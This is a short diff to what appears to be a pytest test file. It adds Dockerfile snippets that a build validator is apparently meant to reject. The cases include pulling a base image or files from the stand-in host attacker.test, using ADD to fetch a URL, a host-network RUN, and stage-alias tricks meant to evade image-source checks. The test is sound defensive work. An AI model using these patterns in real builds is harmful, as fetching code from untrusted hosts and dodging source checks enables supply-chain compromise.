@@ -32,6 +32,13 @@ def test_what_the_engine_has_is_fine(text: str) -> None:
     "text",
     [
         "FROM attacker.test/x\n",
+        "FROM attacker.test/x \\",
+        "FROM debian:12\nADD http://attacker.test/x /x \\\n# the end\n\n",
+        "FROM debian:12\nRUN --network=host x \\\n",
+        "FROM scratch AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
+        "FROM scratch AS a/b\n",
+        "FROM scratch AS busybox\nCOPY --from=busybox /a /a\n",
+        "FROM scratch\nCOPY --from=0 /a /a\n",
         "ARG X=attacker.test/x\nFROM $X\n",
         "FROM debian:12\nCOPY --from=attacker.test/x /a /a\n",
         "FROM debian:12\nCOPY --from=$X /a /a\n",
